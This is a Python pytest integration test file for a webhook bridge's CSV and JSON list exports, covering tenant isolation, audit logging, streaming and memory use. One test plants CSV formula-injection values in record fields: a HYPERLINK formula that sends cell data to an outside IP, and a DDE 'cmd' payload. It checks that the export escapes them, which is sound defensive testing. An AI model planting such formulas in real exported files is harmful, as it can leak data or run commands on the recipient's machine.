"""Lists handed out whole: what the list shows, to whom it shows it, a page in memory at a time, and noted in the audit log."""

from __future__ import annotations

import csv
import io
import tracemalloc
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx2
import orjson
import pytest
from psycopg.types.json import Jsonb
from pydantic import SecretStr

from tests.integration.bridge.running import RunningBridge, eventually, settings_for, start_bridge
from tests.integration.bridge.visiting import ROOT, Planted, plant, visitor_of
from tests.support.ledger import WORKFLOW, TestLedger
from tests.support.postgres import TestDatabase
from webhook_bridge.exports.formats import ExportFormat, Writer
from webhook_bridge.exports.listing import Asked
from webhook_bridge.exports.lists import listings
from webhook_bridge.signed_in import Caller
from zixly_core.access import Role
from zixly_core.ids import new_id
from zixly_core.notifications.facts import Places
from zixly_core.stores.database import Database
from zixly_core.stores.jobs_view import JobFilter, Scope, scoped

LISTS = {one.name: one for one in listings(Places(bridge="", runbook=""))}
HIS_OWN = ("connections", "tokens", "tenants")
"""Lists in which a new client's administrator finds something."""
MANY = 20_000
MANY_SQL = """
insert into zixly.workflow_jobs (id, tenant_id, connection_id, workflow_type, system, record_key, record_id, occurred_at, created_at)
select gen_random_uuid(), %s, %s, %s, 'xero', 'xero:o:INVOICE:' || n, n::text, now(), now() - n * interval '1 second'
from generate_series(1, %s) n"""


@pytest.fixture
def bridge(ledger: TestLedger, database: TestDatabase, tmp_path: Path) -> Iterator[RunningBridge]:
    running = start_bridge(
        settings_for(database, api_token=SecretStr(ROOT), api_requests_per_minute=10_000, objects_url=f"file://{tmp_path}")
    )
    running.http.headers["authorization"] = f"Bearer {ROOT}"
    yield running
    running.stop()


@pytest.fixture
def planted(ledger: TestLedger) -> Planted:
    return plant(ledger, ledger.tenant, slug="demo", word="a-word")


def table_of(answer: httpx2.Response) -> list[dict[str, str]]:
    assert answer.status_code == 200, answer.text
    return list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))


def export(bridge: RunningBridge, name: str, **asked: str) -> httpx2.Response:
    return bridge.http.get(f"/api/{name}/export", params=asked)


def listed(bridge: RunningBridge, name: str) -> list[dict[str, Any]]:
    rows: list[dict[str, Any]] = bridge.http.get(f"/api/{name}").json()[name]
    return rows


def test_lists_are_handed_out_as_they_are_shown(bridge: RunningBridge, planted: Planted) -> None:
    for name in sorted({*LISTS} - {"ledger"}):
        columns, shown = LISTS[name].columns, listed(bridge, name)
        lines = [orjson.loads(line) for line in export(bridge, name, format="json").text.splitlines()]
        assert len(lines) == len(shown) > 0, name
        assert sorted(lines, key=str) == sorted(({key: one[key] for key in columns if key in one} for one in shown), key=str)
        assert {*shown[0]} - {*columns} <= {"links"}
        assert [list(row) for row in table_of(export(bridge, name))] == [columns] * len(shown)


def test_the_ledger_is_handed_out_a_line_for_each_hour_tenant_and_system(bridge: RunningBridge, ledger: TestLedger) -> None:
    now = datetime.now(UTC)
    ledger.add_jobs(2, status="COMPLETED", created_at=now)
    ledger.add_jobs(1, status="FAILED", created_at=now - timedelta(days=3))
    since = (now - timedelta(days=5)).isoformat()
    recent, older = table_of(export(bridge, "ledger", since=since))
    assert (recent["tenant"], recent["system"], recent["made"], recent["completed"], recent["difference"]) == (
        "demo",
        "xero",
        "2",
        "2",
        "0",
    )
    assert (older["failed"], older["hour"] < recent["hour"]) == ("1", True)


def test_the_questions_are_those_of_the_list(bridge: RunningBridge, ledger: TestLedger) -> None:
    (failed,) = ledger.add_jobs(1, status="FAILED", error_reason="refused")
    ledger.add_jobs(2)
    assert [row["id"] for row in table_of(export(bridge, "jobs", status="FAILED", reason="refused", tenant="demo"))] == [str(failed)]
    assert table_of(export(bridge, "jobs", tenant="nobody")) == []
    for wrong in ({"status": "SLEEPING"}, {"format": "xls"}, {"made_by": "me"}):
        answer = export(bridge, "jobs", **wrong)
        assert (answer.status_code, answer.json()["reason"]) == (422, "invalid_parameter"), "said before the answer begins"
    assert export(bridge, "ledger", since="2026-01-01T00:00:00Z", until="2026-11-01T00:00:00Z").json()["reason"] == "window_too_long"


def test_a_formula_in_a_record_key_stays_text(bridge: RunningBridge, ledger: TestLedger) -> None:
    formula = '=HYPERLINK("http://198.51.100.7/?"&A1;"look")'
    ledger.add_jobs(1, record_key=formula, record_id="x\";=cmd|'/c calc'!A1", attempts=0)
    (row,) = table_of(export(bridge, "jobs"))
    assert row["record_key"] == f"'{formula}"
    assert row["record_id"] == "x\";'=cmd|'/c calc'!A1"
    assert (row["attempts"], row["dead_letter"], row["completed_at"]) == ("0", "false", "")
    (line,) = export(bridge, "jobs", format="json").text.splitlines()
    assert orjson.loads(line)["record_key"] == formula, "programs get what is there"


def test_nobody_gets_another_clients_rows(bridge: RunningBridge, ledger: TestLedger, planted: Planted) -> None:
    ledger.add_tenant("stranger")
    visitor = visitor_of(bridge, Role.ADMIN, tenant="stranger")
    for name in sorted({*LISTS} - {"deliveries", *HIS_OWN}):
        answer = bridge.http.get(f"/api/{name}/export", params={"format": "json"}, headers=visitor.headers)
        assert (answer.status_code, answer.text) == (200, ""), name
        named = bridge.http.get(f"/api/{name}/export", params={"tenant": "demo", "format": "json"}, headers=visitor.headers)
        assert "demo" not in named.text, name
    for name in HIS_OWN:
        own = bridge.http.get(f"/api/{name}/export", params={"format": "json"}, headers=visitor.headers).text
        assert "stranger" in own, name
        assert "demo" not in own, name
        named = bridge.http.get(f"/api/{name}/export", params={"tenant": "demo", "format": "json"}, headers=visitor.headers).text
        assert named == ("" if name != "tenants" else own), name
    refused = bridge.http.get("/api/deliveries/export", headers=visitor.headers)
    assert (refused.status_code, refused.json()["reason"]) == (403, "staff_only")


def test_an_export_leaves_two_lines_who_with_which_questions_and_how_many_rows(bridge: RunningBridge, ledger: TestLedger) -> None:
    ledger.add_jobs(3)
    answer = export(bridge, "jobs", status="QUEUED", record="ann@example.com")
    export(bridge, "jobs", workflow=WORKFLOW, format="json")
    lines = ledger.owner.execute("select actor, action, subject, details, request_id from zixly.audit_log order by at, id").fetchall()
    told = [(line["action"], line["subject"], line["details"]) for line in lines]
    assert told == [
        ("export.begin", "jobs", {"format": "csv", "filter": {"status": "QUEUED", "record_key": "..."}}),
        ("export.end", "jobs", {"rows": 0, "is_whole": True}),
        ("export.begin", "jobs", {"format": "json", "filter": {"workflow": WORKFLOW}}),
        ("export.end", "jobs", {"rows": 3, "is_whole": True}),
    ]
    assert {line["request_id"].hex for line in lines[:2]} == {answer.headers["x-request-id"]}


def test_a_file_has_the_day_in_its_name(bridge: RunningBridge) -> None:
    headers = export(bridge, "issues").headers
    assert headers["content-disposition"].startswith('attachment; filename="zixly-issues-20')
    assert (headers["content-type"], headers["x-content-type-options"]) == ("text/csv; charset=utf-8", "nosniff")


@pytest.fixture
def many(ledger: TestLedger) -> None:
    ledger.owner.execute(MANY_SQL, (ledger.tenant.id, ledger.tenant.xero, WORKFLOW, MANY))


@pytest.mark.usefixtures("many")
def test_twenty_thousand_rows_all_come_each_once_newest_first(bridge: RunningBridge) -> None:
    with bridge.http.stream("GET", "/api/jobs/export") as answer:
        assert "content-length" not in answer.headers, "it goes out while it is read"
        rows = list(csv.DictReader(io.StringIO(b"".join(answer.iter_raw()).decode("utf-8-sig"), newline="")))
    assert [int(row["record_id"]) for row in rows] == list(range(1, MANY + 1))


@pytest.mark.usefixtures("many")
def test_whoever_stops_reading_is_noted_and_nothing_more_is_read_for_him(bridge: RunningBridge, ledger: TestLedger) -> None:
    with bridge.http.stream("GET", "/api/jobs/export", params={"format": "json"}) as answer:
        next(answer.iter_raw(1000))

    def ends() -> list[dict[str, Any]]:
        return ledger.owner.execute("select details from zixly.audit_log where action = 'export.end'").fetchall()

    eventually(lambda: bool(ends()), seconds=10)
    (end,) = ends()
    assert (end["details"]["is_whole"], end["details"]["rows"] < MANY) == (False, True)


@dataclass
class Staff:
    database: Database

    def pages(self, *, rows: int) -> Iterator[bytes]:
        asked = Asked(JobFilter(), Caller("test", Scope(None)), lambda: scoped(self.database, Scope(None)))
        writer, seen = Writer(LISTS["jobs"].columns, ExportFormat.CSV), 0
        for page in LISTS["jobs"].documents(asked):
            yield writer.written(page)
            seen += len(page)
            if seen >= rows:
                return


@pytest.mark.usefixtures("many")
def test_twenty_thousand_rows_take_no_more_memory_than_two_thousand(database: TestDatabase) -> None:
    api = Database(database.url("api"), name="test-api")
    staff = Staff(api)
    sum(map(len, staff.pages(rows=500)))  # what is made once
    peaks = []
    for rows in (2_000, MANY):
        tracemalloc.start()
        assert sum(map(len, staff.pages(rows=rows))) > rows * 100
        peaks.append(tracemalloc.get_traced_memory()[1])
        tracemalloc.stop()
    api.close()
    assert peaks[1] < peaks[0] * 1.3


def test_a_drift_shows_its_values_to_whoever_may_see_payloads(bridge: RunningBridge, ledger: TestLedger, planted: Planted) -> None:
    ledger.owner.execute("update zixly.drifts set fields = %s", (Jsonb({"name": {"source": "Ann", "target": "Bob"}}),))
    ids = {sees: visitor_of(bridge, Role.VIEWER, tenant="demo", sees_payloads=sees) for sees in (True, False)}
    found = {sees: table_of(bridge.http.get("/api/drifts/export", headers=one.headers))[0] for sees, one in ids.items()}
    assert orjson.loads(found[True]["fields"]) == {"name": {"source": "Ann", "target": "Bob"}}
    assert orjson.loads(found[False]["fields"]) == {"name": {"source": None, "target": None}}
    assert (found[True]["payloads_hidden"], found[False]["payloads_hidden"]) == ("false", "true")


def test_a_question_that_postgres_cannot_take_is_a_problem_and_no_file(bridge: RunningBridge) -> None:
    answer = export(bridge, "jobs", record="a\0b")
    assert (answer.status_code, answer.json()["reason"]) == (422, "invalid_parameter")


def test_an_id_of_a_delivery_is_not_taken_for_an_export(bridge: RunningBridge) -> None:
    assert bridge.http.get(f"/api/deliveries/{new_id()}").status_code == 404
